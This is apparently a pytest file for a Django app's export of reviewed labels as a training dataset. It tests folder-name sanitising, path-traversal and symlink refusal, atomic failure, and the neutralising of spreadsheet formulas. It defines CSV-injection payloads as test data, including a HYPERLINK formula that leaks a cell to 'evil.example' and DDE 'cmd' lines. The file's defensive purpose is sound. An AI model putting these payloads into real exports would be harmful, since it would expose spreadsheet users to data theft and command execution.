"""The export of reviews as a dataset, with labels people typed: every label gets a folder
of its own that every file system takes, the manifest is never shadowed and opens in a
spreadsheet as text, and a failed export writes nothing."""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse

from predictions.models import Correction, ModelVersion
from predictions.reviews import export as review_export
from predictions.spreadsheets import FORMULA_STARTS
from tests.factories import CorrectionFactory, ModelVersionFactory, OperatorFactory, SucceededPredictionFactory

LONG_LABEL = "é" * 150  # 150 characters, 300 bytes in UTF-8: longer than any file name may be
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def model_version(db: None) -> ModelVersion:
    return ModelVersionFactory.create()


def _reviews(user: User, model_version: ModelVersion, *labels: str) -> list[Correction]:
    return [
        CorrectionFactory.create(
            prediction=SucceededPredictionFactory.create(user=user, model_version=model_version), label=label
        )
        for label in labels
    ]


def _export(directory: Path) -> str:
    out = io.StringIO()
    call_command("export_corrections", str(directory), stdout=out)
    return out.getvalue()


def _manifest(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _folders(directory: Path) -> dict[str, str]:
    """label -> the folder its images are in, from the manifest."""
    rows = _manifest((directory / "manifest.csv").read_text())
    return {row["label"].removeprefix("'"): row["path"].split("/")[0] for row in rows}


def test_a_label_longer_than_a_file_name_is_exported_under_a_short_folder(
    user: User, model_version: ModelVersion, tmp_path: Path
) -> None:
    (review,) = _reviews(user, model_version, LONG_LABEL)

    _export(tmp_path / "set")

    folder = _folders(tmp_path / "set")[LONG_LABEL]
    assert len(folder.encode()) <= 255
    assert folder.startswith("é")
    image = tmp_path / "set" / folder / f"{review.prediction_id}.jpg"
    assert image.read_bytes() == Path(review.prediction.image.path).read_bytes()


@pytest.mark.parametrize("label", ["manifest.csv", "MANIFEST.CSV"])
def test_a_label_named_like_the_manifest_does_not_shadow_it(
    user: User, model_version: ModelVersion, tmp_path: Path, client: Client, label: str
) -> None:
    reviews = _reviews(user, model_version, label, "tabby cat")

    _export(tmp_path / "set")

    assert (tmp_path / "set" / "manifest.csv").is_file()
    assert len(_manifest((tmp_path / "set" / "manifest.csv").read_text())) == 2
    client.force_login(OperatorFactory.create())
    response = client.post(
        reverse("admin:predictions_correction_changelist"),
        {"action": "export_dataset", "_selected_action": [review.pk for review in reviews]},
    )
    names = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))).namelist()  # type: ignore[attr-defined]
    assert names.count("manifest.csv") == 1
    assert not any(name.casefold().startswith("manifest.csv/") for name in names)


@pytest.mark.parametrize(
    "labels",
    [
        ("/etc", "_etc"),  # "/" replaced by "_" made one folder of both
        ("Dog", "dog"),  # one folder on macOS and Windows
        (unicodedata.normalize("NFC", "café"), unicodedata.normalize("NFD", "café")),  # one folder on macOS
        ("a" * 120, "a" * 121),  # both over the folder name limit
    ],
)
def test_distinct_labels_never_share_a_folder(
    user: User, model_version: ModelVersion, tmp_path: Path, labels: tuple[str, str]
) -> None:
    _reviews(user, model_version, *labels)

    _export(tmp_path / "set")

    folders = _folders(tmp_path / "set")
    assert len({unicodedata.normalize("NFC", folders[label]).casefold() for label in labels}) == 2
    for label in labels:
        assert len(list((tmp_path / "set" / folders[label]).iterdir())) == 1


def test_a_label_that_is_a_path_stays_inside_the_export(
    user: User, model_version: ModelVersion, tmp_path: Path
) -> None:
    _reviews(user, model_version, "../../outside", "..", ".hidden", "con", "tabby\ncat", "right\u202eleft")

    _export(tmp_path / "set")

    assert sorted(path.name for path in tmp_path.iterdir()) == ["set"]
    folders = [path.name for path in (tmp_path / "set").iterdir() if path.is_dir()]
    assert len(folders) == 6
    for name in folders:
        assert not name.startswith(".")
        assert name.split(".")[0].casefold() != "con"
        assert all(not unicodedata.category(character).startswith("C") for character in name)


def test_the_exported_folders_are_what_finetune_reads(user: User, model_version: ModelVersion, tmp_path: Path) -> None:
    from training.finetune import scan_folder

    _reviews(user, model_version, LONG_LABEL, "manifest.csv", "/etc", "_etc", "tabby cat")

    _export(tmp_path / "set")

    scanned = scan_folder(tmp_path / "set")
    assert len(scanned.classes) == 5
    assert len(scanned.files) == 5
    assert "tabby cat" in scanned.classes
    assert "_etc" in scanned.classes


def test_a_failed_export_writes_nothing(user: User, model_version: ModelVersion, tmp_path: Path) -> None:
    reviews = _reviews(user, model_version, "tabby cat", "snow leopard", "lynx")
    Path(reviews[1].prediction.image.path).unlink()  # an image gone from the media folder

    with pytest.raises(CommandError, match="nothing was written"):
        _export(tmp_path / "new" / "set")

    assert list(tmp_path.iterdir()) == []


def test_a_failed_export_into_an_existing_folder_leaves_it_as_it_was(
    user: User, model_version: ModelVersion, tmp_path: Path
) -> None:
    reviews = _reviews(user, model_version, "tabby cat", "snow leopard")
    _export(tmp_path)
    before = sorted(str(path.relative_to(tmp_path)) for path in tmp_path.rglob("*"))
    _reviews(user, model_version, "lynx", "puma")
    Path(reviews[0].prediction.image.path).unlink()

    with pytest.raises(CommandError, match="nothing was written"):
        _export(tmp_path)

    assert sorted(str(path.relative_to(tmp_path)) for path in tmp_path.rglob("*")) == before


def test_a_folder_where_the_manifest_goes_is_refused_without_a_traceback(
    user: User, model_version: ModelVersion, tmp_path: Path
) -> None:
    _reviews(user, model_version, "tabby cat")
    (tmp_path / "manifest.csv").mkdir()

    with pytest.raises(CommandError, match="in the export's way"):
        _export(tmp_path)

    assert not (tmp_path / "tabby cat").exists()


def test_a_linked_class_folder_is_not_written_through(user: User, model_version: ModelVersion, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (tmp_path / "set").mkdir()
    (tmp_path / "set" / "tabby cat").symlink_to(outside)
    _reviews(user, model_version, "tabby cat")

    with pytest.raises(CommandError, match="in the export's way"):
        _export(tmp_path / "set")

    assert list(outside.iterdir()) == []


def test_manifest_cells_never_start_a_spreadsheet_formula(
    user: User, model_version: ModelVersion, tmp_path: Path
) -> None:
    _reviews(user, model_version, *FORMULAS)

    _export(tmp_path / "set")

    rows = list(csv.reader(io.StringIO((tmp_path / "set" / "manifest.csv").read_text())))
    assert len(rows) == 1 + len(FORMULAS)
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
    assert sorted(row[1] for row in rows[1:]) == sorted(f"'{label}" for label in FORMULAS)


def test_the_zip_manifest_is_neutralised_the_same_way(user: User, model_version: ModelVersion) -> None:
    reviews = _reviews(user, model_version, *FORMULAS)
    target = io.BytesIO()

    review_export.correction_export_zip(corrections=reviews, target=target)

    manifest = zipfile.ZipFile(target).read("manifest.csv").decode()
    assert not any(cell.startswith(FORMULA_STARTS) for row in csv.reader(io.StringIO(manifest)) for cell in row)
